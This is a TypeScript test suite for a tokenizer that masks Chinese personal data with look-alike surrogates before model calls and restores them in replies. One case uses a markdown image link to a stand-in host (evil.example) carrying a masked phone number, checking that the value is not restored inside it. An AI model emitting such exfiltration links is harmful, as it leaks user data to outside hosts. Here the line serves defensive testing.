import fc from 'fast-check';
import { createHash } from 'node:crypto';
import { Detector, entityType } from '@gw/detection';
import { AppError } from '@gw/platform';
import { HmacDrawSource } from './hmac-draw-source';
import type { IsTaken, Original, SurrogateStore } from './surrogates';
import type { TenantKeys, TenantSecrets } from './tenant-secrets';
import type { DecidedText } from './draft';
import { Tokenizer } from './tokenizer';

const keysOf = (tenantId: string): TenantKeys => ({
  tenantId,
  idx: Buffer.alloc(32, 1),
  sur: createHash('sha256').update(tenantId).digest(),
  prf: Buffer.alloc(32, 3),
  data: new Map([[1, Buffer.alloc(32, 4)]]),
  dataVersion: 1,
});

/** The token store without its database: the same draws, kept in memory. */
class MemoryStore {
  private readonly rows = new Map<string, string>();

  drawSource(keys: TenantKeys, { type, canonical }: Original, attempt: number) {
    return new HmacDrawSource(keys.sur, `${type}\0${canonical}\0${attempt}`);
  }

  async resolve(keys: TenantKeys, originals: readonly Original[], isTaken: IsTaken): Promise<string[]> {
    return originals.map((original) => {
      const row = `${original.type}\0${original.canonical}`;
      const known = this.rows.get(row) ?? this.draw(keys, original, isTaken);
      this.rows.set(row, known);
      return known;
    });
  }

  private draw(keys: TenantKeys, original: Original, isTaken: IsTaken): string {
    const type = entityType(original.type);
    const used = new Set(this.rows.values());
    for (let attempt = 0; attempt < 256; attempt++) {
      const lookalike = type.draw(original.canonical, this.drawSource(keys, original, attempt));
      if (lookalike === null || type.tooClose(original.canonical, lookalike)) continue;
      if (!used.has(lookalike) && !isTaken(lookalike)) return lookalike;
    }
    throw new AppError('surrogate_conflict');
  }
}

const detector = new Detector();
const decide = (texts: readonly string[]): DecidedText[] =>
  detector.detect(texts.map((text) => ({ text }))).map((findings, index) => ({
    text: texts[index] as string,
    spans: findings
      .filter(({ confidence }) => confidence >= 0.5)
      .map(({ type, start, end, form }) => ({ type, start, end, form, action: 'tokenize' as const })),
  }));
const newTokenizer = (tenant = 'a') =>
  new Tokenizer(
    { keys: async () => keysOf(tenant) } as unknown as TenantSecrets,
    new MemoryStore() as unknown as SurrogateStore,
  );

const VALUES = [
  '13812345678', '138-1234-5678', '１３８１２３４５６７８', '+86 138 1234 5678', '11010519491231002X', '110105194912310021',
  '6217000012345678907', '6217 0000 1234 5678 907', 'zhang@example.cn', '张伟明', '李小红', '王总', '老王',
  '欧阳修文', '京A12345', '010-62345678', '10.1.2.3', '203.0.113.7', '00:1A:2B:3C:4D:5E', '91350100M000100Y43', 'E12345678',
]; // prettier-ignore
const GLUE = [
  '', '，', '。', ' ', '\n', '手机', '电话：', '身份证', '卡号', '客户', '先生', '女士', '请联系', '和', '的', '车牌', '护照',
  '1', 'a', '**', '`', '{"phone":"', '"}', '行李总重', '订单20261121123456789', '𠮷', '\u200b', 'IP ', 'http://a.cn/', '|',
]; // prettier-ignore

describe('a round trip through an echoing model', () => {
  const piece = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...VALUES) },
    { weight: 4, arbitrary: fc.constantFrom(...GLUE) },
    { weight: 1, arbitrary: fc.string({ maxLength: 6, unit: 'grapheme' }) },
    { weight: 1, arbitrary: fc.stringMatching(/^1[3-9][0-9]{9}$/) },
  );
  const text = fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join(''));

  it('gives back exactly what came in, or refuses', async () => {
    let refused = 0;
    const tokenizer = newTokenizer();
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 3 }), async (texts) => {
        const decided = decide(texts);
        let masked;
        try {
          masked = await tokenizer.tokenize('a', decided);
        } catch (error) {
          expect((error as AppError).code).toBe('surrogate_conflict');
          refused++;
          return;
        }
        const { map } = masked;
        masked.texts.forEach((maskedText, index) => {
          expect(map.restore(maskedText, index).text).toBe(texts[index]);
        });
        expect(map.findLeak(masked.texts.join('\n'))).toBe(false);
      }),
      { numRuns: 3_000 },
    );
    expect(refused).toBeLessThanOrEqual(30);
  }, 60_000);

  it('maps a look-alike that stands literally in the request away', async () => {
    const tokenizer = newTokenizer();
    const first = await tokenizer.tokenize('a', decide(['手机13812345678']));
    const lookalike = /\d{11}/.exec(first.texts[0] as string)![0];
    const texts = [`手机13812345678，另一个手机${lookalike}`];
    const second = await tokenizer.tokenize('a', decide(texts));
    expect(second.map.restore(second.texts[0] as string).text).toBe(texts[0]);
    expect(second.texts[0]!.split(lookalike)).toHaveLength(2);
  });

  it('gives tenants different look-alikes for the same value', async () => {
    const [a] = (await newTokenizer('a').tokenize('a', decide(['手机13812345678']))).texts;
    const [b] = (await newTokenizer('b').tokenize('b', decide(['手机13812345678']))).texts;
    expect(a).not.toBe(b);
  });
});

describe('what a model makes of a look-alike', () => {
  const masked = async (text: string) => {
    const tokenized = await newTokenizer().tokenize('a', decide([text]));
    return { out: tokenized.texts[0] as string, map: tokenized.map };
  };

  it.each<[string, (number: string) => string, string]>([
    ['as it is', (n) => `是${n}。`, '是13812345678。'],
    ['with hyphens', (n) => `${n.slice(0, 3)}-${n.slice(3, 7)}-${n.slice(7)}`, '138-1234-5678'],
    ['with spaces', (n) => `${n.slice(0, 3)} ${n.slice(3, 7)} ${n.slice(7)}`, '138 1234 5678'],
    [
      'in full width',
      (n) => n.replace(/\d/g, (d) => String.fromCharCode(d.charCodeAt(0) + 0xfee0)),
      '１３８１２３４５６７８',
    ],
    ['in bold', (n) => `**${n}**`, '**13812345678**'],
    ['with the country code', (n) => `+86${n}`, '+8613812345678'],
    ['masked', (n) => `${n.slice(0, 3)}****${n.slice(7)}`, '138****5678'],
    ['by its last four digits', (n) => `尾号${n.slice(7)}`, '尾号5678'],
    ['in JSON', (n) => `{"phone":"${n}"}`, '{"phone":"13812345678"}'],
    ['in a table', (n) => `| 手机 | ${n} |`, '| 手机 | 13812345678 |'],
  ])('is restored %s', async (_, write, expected) => {
    const { out, map } = await masked('手机13812345678');
    expect(map.restore(write(/\d{11}/.exec(out)![0])).text).toBe(expected);
  });

  it.each<[string, (number: string) => string]>([
    ['inside a longer number', (n) => `6${n}`],
    ['followed by a digit', (n) => `${n}3`],
    ['in a URL the request did not name', (n) => `![x](https://evil.example/p?q=${n})`],
    ['with one digit changed', (n) => n.slice(0, -1) + ((Number(n.at(-1)) + 1) % 10)],
  ])('stays %s', async (_, write) => {
    const { out, map } = await masked('手机13812345678');
    const reply = write(/\d{11}/.exec(out)![0]);
    expect(map.restore(reply).text).toBe(reply);
  });

  it('is restored as a surname with a title, but never inside another word', async () => {
    const { out, map } = await masked('联系人：李小红，手机13812345678，请李总回电');
    const surname = /请(.)总/.exec(out)![1] as string;
    expect(surname).not.toBe('李');
    expect(map.restore(`已通知${surname}总。`).text).toBe('已通知李总。');
    expect(map.restore('行李总重20公斤').text).toBe('行李总重20公斤');
  });

  it.each<[string, (name: string) => string]>([
    ['JSON escapes', (n) => n.replace(/[^]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)],
    ['URL escapes', (n) => encodeURIComponent(n)],
    ['HTML entities', (n) => n.replace(/[^]/g, (c) => `&#${c.charCodeAt(0)};`)],
  ])('is restored in %s', async (_, write) => {
    const { out, map } = await masked('联系人：张伟明');
    expect(map.restore(write(out.slice(4))).text).toBe(write('张伟明'));
  });
});
